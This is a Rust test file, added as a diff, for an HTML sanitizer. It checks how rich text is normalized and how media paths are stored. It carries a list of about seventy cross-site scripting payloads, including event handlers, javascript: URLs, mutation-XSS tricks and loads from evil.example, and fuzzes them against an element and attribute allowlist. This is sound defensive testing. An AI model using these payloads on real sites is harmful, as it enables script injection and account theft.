@@ -1,0 +1,383 @@
+//! Tests of sanitizing: HTML that is kept, normalized, or never let through.
+
+use std::collections::HashSet;
+
+use super::tokenizer::{Token, attributes, tokens};
+use super::{
+    MediaDecision, clean, clean_with_media_rule, clean_with_origins, clean_with_sizes, deliver_media, media_refs,
+};
+
+/// Stored form: comes out as it went in.
+const STORED_HTML: &[&str] = &[
+    "<p>One <strong>bold</strong>, <em>soft</em>, <u>under</u>, <s>gone</s>, <cite>Title</cite>, H<sub>2</sub>O, m<sup>2</sup>.<br>Next line</p>",
+    r#"<p><a href="https://example.com/a?b=1&amp;c=2" title="More" rel="nofollow noopener">a link</a> and <a href="/post/slug/other">one inside</a></p>"#,
+    r#"<p><a href="mailto:desk@example.com">Write</a> or <a href="tel:+254700000000">call</a></p>"#,
+    r#"<p><code>plain</code> <strong><code>bold</code></strong> <a href="/x"><code>linked</code></a></p>"#,
+    "<h2>Two</h2><p>a</p><h3>Three</h3><p>b</p><h4>Four</h4><hr><p>c</p>",
+    "<ul><li>One<ol><li>First</li><li>Second<ul><li>Deep</li></ul></li></ol></li><li>Two</li></ul>",
+    "<ol><li><p>One</p><p>More of one</p></li><li>Two</li></ol>",
+    "<blockquote><p>Said.</p><p><cite>Somebody</cite></p></blockquote>",
+    "<pre><code>SELECT *\n  FROM sales\n WHERE a &lt; b;\n\n-- done</code></pre>",
+    "<pre>one\n    two <strong>bold</strong></pre>",
+    r#"<table><thead><tr><th scope="col">Name</th><th colspan="2" scope="col">Price</th></tr></thead><tbody><tr><th scope="row">Lamp</th><td>$3</td><td>$4</td></tr><tr><td rowspan="2">Kettle</td><td><ul><li>red</li></ul></td><td><strong>$9</strong></td></tr><tr><td></td><td>$10</td></tr></tbody></table>"#,
+    r#"<figure><img src="2026/sun.webp" alt="A sun" width="1200" height="800"><figcaption>Dawn, by <em>Ada</em>. <a href="https://example.com" rel="nofollow noopener">Source</a></figcaption></figure>"#,
+    r#"<figure><img src="a.webp" alt=""></figure><p>after</p>"#,
+    r#"<figure><video src="a.mp4" poster="a.webp" controls="" width="640" height="360"></video><figcaption>A clip</figcaption></figure>"#,
+    r#"<figure data-embed="https://www.youtube.com/watch?v=abc"><a href="https://www.youtube.com/watch?v=abc" rel="nofollow noopener">How a lamp works</a><figcaption>On YouTube</figcaption></figure>"#,
+    r#"<figure data-embed="https://www.openstreetmap.org/export/embed.html?bbox=36.76%2C-1.33%2C36.88%2C-1.24"><a href="https://www.openstreetmap.org/#map=13/-1.2850/36.8200" rel="nofollow noopener">Map of Nairobi</a><figcaption>Where.</figcaption></figure>"#,
+    "<figure><table><tbody><tr><td>a</td></tr></tbody></table><figcaption>Table 1</figcaption></figure>",
+    "<figure><pre><code>x</code></pre><figcaption>Listing 1</figcaption></figure>",
+    "<figure><blockquote><p>Pulled.</p></blockquote><figcaption>Who</figcaption></figure>",
+    "<figure><p><em>This picture is missing: A hill</em></p><figcaption>Hills</figcaption></figure>",
+    "<p>Fish &amp; chips &lt;b&gt; “ok”&nbsp;é 🦁</p>",
+];
+
+#[test]
+fn cleaning_stored_html_changes_nothing() {
+    for html in STORED_HTML {
+        assert_eq!(clean(html), *html);
+    }
+}
+
+#[test]
+#[expect(clippy::too_many_lines, reason = "a table of cases")]
+fn cleaning_normalizes_other_html_to_the_stored_form() {
+    for (html, stored) in [
+        ("plain text", "<p>plain text</p>"),
+        ("<div>a</div><div>b <span style='color:red'>c</span></div>", "<p>a</p><p>b c</p>"),
+        ("<h1 class=x id=y>T</h1><h5>s</h5>", "<h2>T</h2><h4>s</h4>"),
+        ("<b>x</b> <i>y</i> <del>z</del> <kbd>k</kbd>", "<p><strong>x</strong> <em>y</em> <s>z</s> <code>k</code></p>"),
+        (
+            "<p>&nbsp;</p><p></p><p><br></p><p> <strong> </strong></p><ul><li></li></ul><blockquote></blockquote><h2> </h2>",
+            "",
+        ),
+        ("<strong><p>a</p><p>b</p></strong>", "<p><strong>a</strong></p><p><strong>b</strong></p>"),
+        ("<strong><strong>a</strong></strong><em>b</em><em>c</em>", "<p><strong>a</strong><em>bc</em></p>"),
+        ("<p><br>a<strong> </strong>b<br></p>", "<p>a b</p>"),
+        ("<a href='javascript:alert(1)'>x</a> <a>y</a> <a href='#n'>z</a>", "<p>x y z</p>"),
+        ("<a href='/x' target=_blank onclick=x>x</a>", r#"<p><a href="/x">x</a></p>"#),
+        ("<a href='/x'></a>", ""),
+        (
+            "<p>a <img src='/media/b.png' alt='B'> c</p>",
+            r#"<p>a</p><figure><img src="b.png" alt="B"></figure><p>c</p>"#,
+        ),
+        ("<a href='/media/b.png'><img src='/media/b.png'></a>", r#"<figure><img src="b.png" alt=""></figure>"#),
+        ("<h2>Head <img src='a.png'></h2>", r#"<h2>Head</h2><figure><img src="a.png" alt=""></figure>"#),
+        (
+            "<img src='https://other.example/a.png' alt='A hill'>",
+            "<figure><p><em>This picture is missing: A hill</em></p></figure>",
+        ),
+        (
+            "<figure><img src='https://other.example/a.png'><figcaption>Cap</figcaption></figure>",
+            "<figure><p><em>This picture is missing.</em></p><figcaption>Cap</figcaption></figure>",
+        ),
+        ("<img src='data:image/png;base64,AAAA'><img src='blob:x'><img>", ""),
+        (
+            "<video controls><source src='/media/a.mp4' type='video/mp4'>Fallback</video>",
+            r#"<figure><video src="a.mp4" controls=""></video></figure>"#,
+        ),
+        (
+            "<video src='/media/a.mp4' poster='https://other.example/p.png'></video>",
+            r#"<figure><video src="a.mp4" controls=""></video></figure>"#,
+        ),
+        (
+            "<audio src='https://other.example/a/song.mp3'></audio>",
+            r#"<p><a href="https://other.example/a/song.mp3" rel="nofollow noopener">Listen: song.mp3</a></p>"#,
+        ),
+        (
+            "<iframe width=560 src='https://www.youtube.com/embed/abc?rel=0' title='A &amp; B'></iframe>",
+            r#"<figure data-embed="https://www.youtube.com/watch?v=abc"><a href="https://www.youtube.com/watch?v=abc" rel="nofollow noopener">A &amp; B</a></figure>"#,
+        ),
+        ("<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>1</script>'></iframe>", ""),
+        (
+            "<figure data-embed='https://evil.example/x'><a href='https://evil.example/x'>X</a><figcaption>C</figcaption></figure>",
+            r#"<figure><p><a href="https://evil.example/x" rel="nofollow noopener">X</a></p><figcaption>C</figcaption></figure>"#,
+        ),
+        (
+            "<figure data-embed='https://vimeo.com/1'><a href='https://evil.example/x'>X</a></figure>",
+            r#"<figure data-embed="https://vimeo.com/1"><a href="https://vimeo.com/1" rel="nofollow noopener">X</a></figure>"#,
+        ),
+        (
+            "<figure><figure><img src='1.png'></figure><figure><img src='2.png'><figcaption>Two</figcaption></figure><figcaption>Both</figcaption></figure>",
+            r#"<figure><img src="1.png" alt=""></figure><figure><img src="2.png" alt=""><figcaption>Two</figcaption></figure><p>Both</p>"#,
+        ),
+        (
+            "<figure><img src='3.png'><img src='4.png'><figcaption>Pair</figcaption></figure>",
+            r#"<figure><img src="3.png" alt=""></figure><figure><img src="4.png" alt=""><figcaption>Pair</figcaption></figure>"#,
+        ),
+        (
+            "<figure class=wp-block-table><table><tr><td>a</table></figure>",
+            "<table><tbody><tr><td>a</td></tr></tbody></table>",
+        ),
+        ("<figure><figcaption>Alone</figcaption></figure><figure></figure>", "<p>Alone</p>"),
+        (
+            "<table><caption>C</caption><colgroup><col></colgroup><tr><td><p>1</p></td></tr><tfoot><tr><td>f</td></tr></tfoot></table>",
+            "<figure><table><tbody><tr><td>1</td></tr><tr><td>f</td></tr></tbody></table><figcaption>C</figcaption></figure>",
+        ),
+        ("<table><tr></tr></table>", ""),
+        ("<ul><li><p>a</p></li><ul><li>b</li></ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
+        ("<ul>loose<li>a</li></ul>", "<p>loose</p><ul><li>a</li></ul>"),
+        ("<dl><dt>Term</dt><dd>Meaning</dd></dl>", "<p><strong>Term</strong></p><p>Meaning</p>"),
+        ("<blockquote>a<footer>b</footer></blockquote>", "<blockquote><p>a</p><p>b</p></blockquote>"),
+        ("<pre>\n\n a<br>b</pre>", "<pre> a\nb</pre>"),
+        ("<p>say <q>this</q></p>", "<p>say “this”</p>"),
+        ("<p>a\u{0}b\u{8}c\u{1b}d</p>", "<p>abcd</p>"),
+        ("<!-- c --><p>a<!--more-->b</p>", "<p>ab</p>"),
+        ("<form action=/x><label>L</label><input value=v><button>B</button></form>", "<p>LB</p>"),
+        ("<p>unclosed <b>bold<p>next", "<p>unclosed <strong>bold</strong></p><p><strong>next</strong></p>"),
+        (
+            "<table><tr><td colspan='0' rowspan='x' scope=row>a</td><th scope='evil' colspan=\" 3 \">b</th></tr></table>",
+            r#"<table><tbody><tr><td>a</td><th colspan="3">b</th></tr></tbody></table>"#,
+        ),
+    ] {
+        assert_eq!(clean(html), stored, "{html}");
+        assert_eq!(clean(stored), stored);
+    }
+}
+
+#[test]
+fn cleaning_stores_media_relative_with_their_sizes() {
+    let html = r#"<img src="https://news.example/media/2026/a.webp" alt="" width="9" height="9"><video src="/media/b.mp4" poster="2026/a.webp"></video>"#;
+    let stored =
+        clean_with_sizes(html, &["https://news.example/media/"], &|key| (key == "2026/a.webp").then_some((1200, 800)));
+    assert_eq!(
+        stored,
+        r#"<figure><img src="2026/a.webp" alt="" width="1200" height="800"></figure><figure><video src="b.mp4" poster="2026/a.webp" controls=""></video></figure>"#
+    );
+    assert_eq!(media_refs(&stored), ["2026/a.webp", "b.mp4", "2026/a.webp"]);
+    let delivered = deliver_media(&stored);
+    assert_eq!(media_refs(&delivered), ["/media/2026/a.webp", "/media/b.mp4", "/media/2026/a.webp"]);
+    assert_eq!(clean_with_origins(&delivered, &[]), stored);
+    let kept = clean_with_media_rule("<img src='x y.png'>", &|found| MediaDecision::Keep {
+        src: found.replace(' ', "-"),
+        size: None,
+    });
+    assert_eq!(kept, r#"<figure><img src="x-y.png" alt=""></figure>"#);
+}
+
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"a.png\"onerror=\"alert(1)\">",
+    "<img src='a.png' alt='\"><script>alert(1)</script>'>",
+    "<img src=`a.png`onerror=alert(1)>",
+    "<img/src=a.png/onerror=alert(1)>",
+    "<img src=javascript:alert(1)>",
+    "<img src='a.png?\"onerror=alert(1)'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><animate href=#x attributeName=href values=javascript:alert(1)></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></table></math>",
+    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<title><img title='</title><img src onerror=alert(1)>'>",
+    "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
+    "<plaintext><script>alert(1)",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe><a title='</iframe><img src onerror=alert(1)>'>",
+    "<svg><iframe><a title='</iframe><img src onerror=alert(1)>'>x",
+    "<iframe src='https://www.youtube.com/embed/abc\" onload=\"alert(1)'></iframe>",
+    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
+    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=' &#14; javascript:alert(1)'>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
+    "<a href='java\0script:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='//evil.example'>x</a>",
+    "<a href='/\\evil.example'>x</a>",
+    "<a href='/x\" onmouseover=\"alert(1)'>x</a>",
+    "<a href='https://x.example/' title='\"><img src=x onerror=alert(1)>'>x</a>",
+    "<a href='/x' style='position:fixed' class=c id=i name=n target=_top ping=/y>x</a>",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
+    "<video src=a.mp4 onloadstart=alert(1)><source onerror=alert(1) src=x></video>",
+    "<video poster=javascript:alert(1) src=a.mp4></video>",
+    "<audio src=javascript:alert(1)></audio><audio src=x onerror=alert(1)></audio>",
+    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
+    "<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>",
+    "<body onload=alert(1)><input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><option><script>1</script></select>",
+    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
+    "<table background=javascript:alert(1)><td background=javascript:alert(1) onclick=x>x</table>",
+    "<figure data-embed='javascript:alert(1)'><a href='javascript:alert(1)'>x</a></figure>",
+    "<figure data-embed='https://www.youtube.com/watch?v=a\"><script>alert(1)</script>'></figure>",
+    "<figure data-embed='https://www.youtube.com/watch?v=abc' data-x=1 onclick=alert(1)></figure>",
+    "<img src='//evil.example/pixel.gif'><img srcset='https://evil.example/x 1x' src=a.png>",
+    "<img src='/media/..//evil.example/x.png'><img src='/media//evil.example/x'>",
+    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
+    "<code><script>alert(1)</script></code><pre><img src=x onerror=alert(1)></pre>",
+    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>",
+    "<b <script>alert(1)</script>0",
+    "<<img src=x onerror=alert(1)//>",
+    "<p title='<!--' --><img src=x onerror=alert(1)>",
+    "<select><iframe></select><img src=x: alt='a:b' onerror=alert(1)></iframe>",
+    "<custom-element onclick=alert(1)>x</custom-element>",
+];
+
+#[test]
+fn no_xss_payload_survives_cleaning() {
+    for attack in ATTACKS {
+        assert_allowed(&clean(attack), attack);
+    }
+}
+
+/// Joins random pieces of attacks and of good HTML, cuts some of them, and looks at what comes out.
+#[test]
+#[expect(clippy::too_many_lines, reason = "a table of cases")]
+fn cleaning_any_mixture_of_elements_is_safe_and_idempotent() {
+    let odd = [
+        "<p>",
+        "</p>",
+        "<b>",
+        "</b>",
+        "<a href=/x>",
+        "</a>",
+        "<table><tr><td>",
+        "</table>",
+        "<ul><li>",
+        "</li>",
+        "<figure>",
+        "</figure>",
+        "<figcaption>c",
+        "<br>",
+        "&nbsp;",
+        " ",
+        "\n",
+        "text",
+        "<img src=a.png>",
+        "<pre>\n",
+        "</pre>",
+        "<blockquote>",
+        "<h2>",
+        "</h3>",
+        "<code>",
+        "&lt;",
+        "<span>",
+        "<div>",
+        "</div>",
+        "<th>",
+        "<caption>",
+        "<em> ",
+        " </em>",
+        "<dl><dt>",
+        "<dd>",
+        "<q>",
+        "<video src=v.mp4>",
+        "<iframe src=https://vimeo.com/1></iframe>",
+        "<hr>",
+        "<sup>",
+        "<li>",
+        "<svg>",
+        "<math>",
+        "</svg>",
+    ];
+    let pieces: Vec<&str> = ATTACKS.iter().chain(STORED_HTML).copied().chain(odd).collect();
+    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
+    let mut random = move |below: usize| {
+        seed ^= seed << 13;
+        seed ^= seed >> 7;
+        seed ^= seed << 17;
+        (seed % below as u64) as usize
+    };
+    for _ in 0..4000 {
+        let mut html = String::new();
+        for _ in 0..1 + random(9) {
+            let piece = pieces[random(pieces.len())];
+            let mut end = if random(4) == 0 { random(piece.len() + 1) } else { piece.len() };
+            while !piece.is_char_boundary(end) {
+                end -= 1;
+            }
+            html.push_str(&piece[..end]);
+        }
+        let once = clean(&html);
+        assert_allowed(&once, &html);
+        assert_eq!(clean(&once), once, "not final for {html:?}");
+        let delivered = deliver_media(&once);
+        assert_eq!(clean(&delivered), once, "delivery is not reversible for {html:?}");
+    }
+}
+
+#[test]
+fn cleaning_deep_nesting_needs_little_stack() {
+    for piece in ["<div>", "<b>", "<blockquote>", "<ul><li>", "<table><tr><td>", "<figure>", "<span><em>"] {
+        let html = format!("{}deep", piece.repeat(3000));
+        let once = std::thread::Builder::new().stack_size(1 << 20).spawn(move || clean(&html)).unwrap().join().unwrap();
+        assert!(once.contains("deep"), "{piece}");
+        assert_eq!(clean(&once), once, "{piece}");
+    }
+}
+
+fn assert_allowed(html: &str, source: &str) {
+    let elements: HashSet<&str> = [
+        "p",
+        "h2",
+        "h3",
+        "h4",
+        "ul",
+        "ol",
+        "li",
+        "blockquote",
+        "cite",
+        "strong",
+        "em",
+        "u",
+        "s",
+        "code",
+        "pre",
+        "a",
+        "hr",
+        "br",
+        "sup",
+        "sub",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "figure",
+        "figcaption",
+        "img",
+        "video",
+    ]
+    .into();
+    for token in tokens(html) {
+        let Token::Open { name, attributes: written } = token else { continue };
+        assert!(elements.contains(name), "<{name}> from {source:?}: {html}");
+        for (attribute, value, _) in attributes(written) {
+            let fine = match (name, attribute) {
+                ("a", "href") => {
+                    ["http://", "https://", "mailto:", "tel:", "/"]
+                        .iter()
+                        .any(|start| value.to_ascii_lowercase().starts_with(start))
+                        && !value.starts_with("//")
+                }
+                ("a", "rel") => value == "nofollow noopener",
+                ("a", "title") | ("img", "alt") => true,
+                ("figure", "data-embed") => value.starts_with("https://"),
+                ("img" | "video", "src" | "poster") => {
+                    !value.starts_with('/') && !value.contains(':') && !value.contains("..")
+                }
+                ("img" | "video", "width" | "height") | ("td" | "th", "colspan" | "rowspan") => {
+                    value.parse::<u32>().is_ok()
+                }
+                ("video", "controls") => value.is_empty(),
+                ("th", "scope") => true,
+                _ => false,
+            };
+            assert!(fine, "{name}[{attribute}={value:?}] from {source:?}: {html}");
+        }
+    }
+}
